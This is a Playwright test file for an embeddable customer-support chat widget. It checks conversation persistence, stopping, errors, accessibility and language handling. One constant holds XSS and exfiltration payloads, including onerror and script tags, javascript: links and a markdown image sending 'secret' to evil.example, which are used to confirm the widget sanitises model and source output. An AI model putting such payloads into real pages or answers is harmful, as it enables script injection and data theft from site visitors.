"""The chat on somebody else's page, which has a strict policy and hostile styles and scripts."""

from __future__ import annotations

import asyncio

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, expect

from accounts import mail
from accounts.models import OutgoingMail
from chat.models import Message
from integrations import keys
from integrations.models import Integration, IntegrationEvent
from llm_settings.providers.base import ChatDelta, ProviderError
from tests.pages import browser as driving

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(not driving.CHROMIUM, reason="no Chromium; DOCULUME_CHROMIUM names one"),
]
QUESTION = "How long do customers have to request a refund?"
PHONE = {"viewport": {"width": 390, "height": 760}, "has_touch": True, "is_mobile": True}
NEW_NAMES = "Object.getOwnPropertyNames(window).filter((name) => !before.has(name) && name !== 'before')"


def say(monkeypatch, *pieces, pause=0.0, then=None):
    """A language model that writes `pieces` and then fails, if `then` is an error."""

    class Scripted:
        model_name = "scripted"

        async def stream(self, messages, **_):
            for piece in pieces:
                await asyncio.sleep(pause)
                yield ChatDelta(text=piece)
            if then:
                raise then

    monkeypatch.setattr("chat.choosing.chat_models_for", lambda *_, **__: [Scripted()])


def opened(page: Page) -> Page:
    page.get_by_role("button", name="Open the chat").click()
    return page


def ask(page: Page, text: str = QUESTION, done: bool = True):
    """Ask, and give the answer's element, when it is whole."""
    answers = page.locator(".answer")
    before = answers.count()
    page.get_by_role("textbox", name="Ask a question…").fill(text)
    page.keyboard.press("Enter")
    answers.nth(before).wait_for()
    if done:
        expect(page.get_by_role("button", name="Send")).to_be_attached(timeout=20_000)
    return answers.last


def serious(page: Page) -> list[str]:
    found = Axe().run(page, context="doculume-chat, doculume-search, doculume-modal").response["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html']}" for one in found if one["impact"] in ("serious", "critical")]


def test_a_visitor_asks_reads_opens_a_source_and_finds_it_again_on_the_next_page(shop):
    page = opened(shop.page())
    expect(page.get_by_text("Ask us anything.")).to_be_visible()
    answer = ask(page)
    expect(answer.locator(".prose")).to_contain_text("within 30 days")
    answer.get_by_role("button", name="Source 1: Refund policy").first.click()
    source = answer.locator("details").first
    expect(source.locator("blockquote")).to_contain_text("30 days of purchase")
    expect(source.get_by_role("link")).to_have_attribute("href", "https://shop.example/refunds")
    expect(source.get_by_role("link")).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert page.evaluate(NEW_NAMES) == ["DocuLume"]
    # Open as it was left, on this page and on another, in this tab and in another.
    page.reload()
    expect(page.locator(".answer .prose")).to_contain_text("within 30 days")
    page.goto(shop.site.page("/other", head=shop.snippet()))
    expect(page.locator(".question")).to_have_text(QUESTION)
    second = opened(shop.page(page.context, "/third"))
    expect(second.locator(".answer .prose")).to_contain_text("within 30 days")
    ask(second, "How long does shipping to Japan take?")
    expect(page.locator(".question")).to_have_count(2)
    expect(page.locator(".answer").last).to_contain_text("nine days")
    assert Message.objects.filter(role="user").values("conversation_id").distinct().count() == 1


def test_another_visitor_sees_nothing_of_it(shop):
    ask(opened(shop.page()))
    other = opened(shop.page(path="/other"))
    expect(other.get_by_text("Ask us anything.")).to_be_visible()
    expect(other.locator(".question")).to_have_count(0)


def test_a_new_conversation_begins_empty(shop):
    page = opened(shop.page())
    ask(page)
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator(".question")).to_have_count(0)
    page.reload()
    expect(page.get_by_text("Ask us anything.")).to_be_visible()
    expect(page.locator(".question")).to_have_count(0)


def test_stopping_keeps_what_was_said(shop, monkeypatch):
    say(monkeypatch, *["word "] * 400, pause=0.05)
    page = opened(shop.page())
    answer = ask(page, done=False)
    expect(answer.locator(".prose")).to_contain_text("word word word")
    page.get_by_role("button", name="Stop").click()
    expect(answer).to_contain_text("Stopped.")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    for _ in range(100):
        if Message.objects.get(role="assistant").status != "writing":
            break
        page.wait_for_timeout(100)
    assert Message.objects.get(role="assistant").status == "stopped"
    page.reload()
    expect(page.locator(".answer")).to_contain_text("Stopped.")


def test_a_model_that_fails_is_told_and_can_be_asked_again(shop, monkeypatch):
    say(monkeypatch, "Within ", then=ProviderError("The model provider failed.", permanent=False))
    page = opened(shop.page())
    answer = ask(page)
    expect(answer.locator(".trouble")).to_contain_text("Something went wrong")
    say(monkeypatch, "Within 30 days [1].")
    answer.get_by_role("button", name="Try again").click()
    expect(page.locator(".answer .prose")).to_contain_text("30 days")
    expect(page.locator(".answer")).to_have_count(1)


def test_thumbs_are_recorded(shop):
    page = opened(shop.page())
    answer = ask(page)
    answer.get_by_role("button", name="Not helpful").click()
    expect(answer.get_by_text("Thank you!")).to_be_visible()
    expect(answer.get_by_role("button", name="Not helpful")).to_have_attribute("aria-pressed", "true")
    for _ in range(50):
        if IntegrationEvent.objects.exists():
            break
        page.wait_for_timeout(100)
    event = IntegrationEvent.objects.get()
    assert event.event_type == "thumbs_down"
    assert event.meta["message_id"] == str(Message.objects.get(role="assistant").id)


def test_a_support_request_goes_to_the_inbox(shop, mailoutbox):
    page = opened(shop.page(hostile=False))
    page.get_by_role("button", name="Contact us").click()
    expect(page.get_by_label("Your message")).to_be_focused()
    page.get_by_label("Your message").fill("Where is my parcel?")
    page.get_by_label("Your email address").fill("visitor@example.org")
    assert serious(page) == []
    page.get_by_role("button", name="Send message").click()
    expect(page.get_by_text("Your message is on its way. Thank you!").first).to_be_visible()
    mail.deliver(mail.claim(OutgoingMail.objects.get().id))
    assert "Where is my parcel?" in mailoutbox[0].body
    assert mailoutbox[0].reply_to == ["visitor@example.org"]
    page.get_by_role("button", name="Back to the chat").click()
    expect(page.get_by_role("textbox", name="Ask a question…")).to_be_focused()


HARM = (
    "It is **within 30 days** [1]. ![q](https://evil.example/?q=secret) <img src=x onerror=alert(1)> "
    "<script>alert(2)</script> <svg onload=alert(3)> <iframe src='https://evil.example/'></iframe> "
    "[a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>) [c](vbscript:x) [d](//evil.example/x) "
    "[fine](https://shop.example/a) <style>*{background:url(https://evil.example/s)}</style> "
    "<form action=https://evil.example/><button>x</button></form> [77]\n\n"
    "| a | <b onclick=alert(6)>b</b> |\n|---|---|\n| [l](JaVaScRiPt:alert(7)) | ![i](//evil.example/y.png) |\n\n"
    "```html\n<img src=https://evil.example/z onerror=alert(8)>\n```\n<link rel=prefetch href=https://evil.example/p>"
)


def test_what_a_model_and_a_source_write_does_nothing(shop, monkeypatch):
    title = "<img src=x onerror=alert(9)> Refund requests of customers"
    shop.entry(f"Customers have 30 days to request a refund. {HARM}", title, "javascript:alert(1)")
    say(monkeypatch, *(HARM[at : at + 7] for at in range(0, len(HARM), 7)))
    page = opened(shop.page())
    answer = ask(page)
    for one in (answer, page.locator(".answer")):
        expect(one.locator("img, script, style, b[onclick], iframe, form, link, object, embed")).to_have_count(0)
        for link in one.locator("a").all():
            # It may be followed by who wants to; nothing is fetched by itself, and no script is run.
            assert link.get_attribute("href").startswith("https://")
            assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        expect(one.locator(".prose")).not_to_contain_text("[77]")
        page.reload()
        page.locator(".answer").wait_for()
    for summary in page.locator("summary").all():
        summary.click()
    assert page.evaluate("window.dialogs") is None


def test_a_page_of_another_site_is_shown_nothing_and_told_once(shop):
    Integration.objects.filter(id=shop.chatbot.id).update(allowed_domains=["elsewhere.example"])
    page = shop.page(head=shop.snippet() + shop.snippet())
    page.wait_for_timeout(1500)
    expect(page.locator("doculume-chat")).to_have_count(0)
    assert len([line for line in shop.lines if line.startswith("warning: DocuLume")]) == 1


def test_a_revoked_key_shows_nothing(shop):
    keys.revoke(shop.key, "test")
    page = shop.page()
    page.wait_for_timeout(1500)
    expect(page.locator("doculume-chat")).to_have_count(0)
    assert len([line for line in shop.lines if line.startswith("warning: DocuLume")]) == 1


def test_an_answer_that_comes_while_the_chat_is_closed_is_counted(shop, monkeypatch):
    say(monkeypatch, "Within ", "30 days [1].", pause=0.4)
    page = opened(shop.page())
    ask(page, done=False)
    page.keyboard.press("Escape")
    launcher = page.get_by_role("button", name="Open the chat (1 unread)")
    expect(launcher).to_be_focused()
    launcher.click()
    expect(page.locator(".answer")).to_contain_text("30 days")
    expect(page.get_by_role("button", name="Open the chat", exact=True)).to_be_attached()


def test_without_a_connection_it_says_so_and_asks_again_later(shop):
    page = opened(shop.page())
    page.context.set_offline(True)
    answer = ask(page)
    expect(answer.locator(".trouble")).to_contain_text("There is no connection", timeout=20_000)
    page.context.set_offline(False)
    answer.get_by_role("button", name="Try again").click()
    expect(page.locator(".answer .prose")).to_contain_text("30 days")
    expect(page.locator(".question")).to_have_count(1)


def test_it_is_used_by_keyboard_and_read_out_once(shop):
    page = shop.page()
    launcher = page.get_by_role("button", name="Open the chat")
    launcher.focus()
    page.keyboard.press("Enter")
    field = page.get_by_role("textbox", name="Ask a question…")
    expect(field).to_be_focused()
    page.keyboard.type("How long do customers")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("have to request a refund?")
    page.keyboard.press("Enter")
    expect(page.locator("[role=status]").first).to_contain_text("Answer: ")
    expect(page.locator(".log")).to_have_attribute("aria-live", "off")
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    expect(launcher).to_be_focused()


def test_what_an_input_method_confirms_is_not_sent(shop):
    page = opened(shop.page())
    field = page.get_by_role("textbox", name="Ask a question…")
    field.fill("返金")
    field.dispatch_event("keydown", {"key": "Enter", "isComposing": True})
    field.dispatch_event("keydown", {"key": "Enter", "keyCode": 229})
    page.wait_for_timeout(300)
    expect(page.locator(".question")).to_have_count(0)


def test_on_a_phone_it_takes_the_screen_and_keeps_focus(shop):
    page = shop.page(shop.visitor(**PHONE))
    page.get_by_role("button", name="Open the chat").tap()
    dialog = page.get_by_role("dialog")
    box = dialog.bounding_box()
    assert (box["x"], box["y"], box["width"], box["height"]) == (0, 0, 390, 760)
    ask(page)
    inside = "() => document.activeElement === document.body || document.activeElement.localName === 'doculume-chat'"
    for _ in range(12):
        page.keyboard.press("Tab")
        assert page.evaluate(inside)
    assert page.evaluate("own.focus(), document.activeElement.id") != "own"
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.get_by_role("button", name="Close").tap()
    expect(page.get_by_role("button", name="Open the chat")).to_be_focused()


def test_what_is_taken_away_leaves_nothing_and_can_come_back(shop):
    page = shop.page(head=shop.snippet(manual="1"))
    page.wait_for_function("window.DocuLume")
    options = f'{{key: "{keys.text_of(shop.key)}", integration: "{shop.chatbot.id}"}}'
    page.evaluate(f"DocuLume.chat({options}).then((chat) => (window.chat = chat, 0))")
    page.wait_for_function("window.chat")
    opened(page)
    page.evaluate("document.body.replaceChildren(chat); document.body.append(chat)")
    opened(page)
    page.evaluate("DocuLume.destroy()")
    expect(page.locator("doculume-chat")).to_have_count(0)
    page.keyboard.press("Escape")


def test_two_chats_stand_beside_each_other(shop):
    other = shop.integration("chatbot", name="Second", welcome_message="The other one.")
    shop.key = keys.create(shop.account, "Both", integrations=[shop.chatbot, other])
    page = shop.page(head=shop.snippet() + shop.snippet(other, position="bottom-left"))
    expect(page.locator(".launcher")).to_have_count(2)
    for launcher in page.locator(".launcher").all():
        launcher.click()
    expect(page.get_by_text("The other one.")).to_be_visible()
    expect(page.get_by_text("Ask us anything.")).to_be_visible()


@pytest.mark.parametrize("language", ["de", "nl", "fr", "es", "ja", "ar"])
def test_it_speaks_the_language_of_the_page(shop, language):
    page = shop.page(lang=language, hostile=False)
    page.locator(".launcher").click()
    expect(page.locator(".widget")).to_have_attribute("dir", "rtl" if language == "ar" else "ltr")
    expect(page.get_by_role("textbox", name="Ask a question…")).to_have_count(0)
    assert serious(page) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("color", ["#1d5c55", "#ffe600", "#7d7d7d", "#000000", "#ff3366"])
def test_nothing_serious_stands_in_anybodys_way(shop, scheme, color):
    page = opened(shop.page(shop.visitor(color_scheme=scheme), head=shop.snippet(color=color), hostile=False))
    answer = ask(page)
    answer.get_by_role("button", name="Source 1").first.click()
    page.wait_for_timeout(300)
    assert serious(page) == []
    for target in page.locator("doculume-chat button:visible, doculume-chat summary:visible").all():
        box = target.bounding_box()
        assert min(box["width"], box["height"]) >= 24
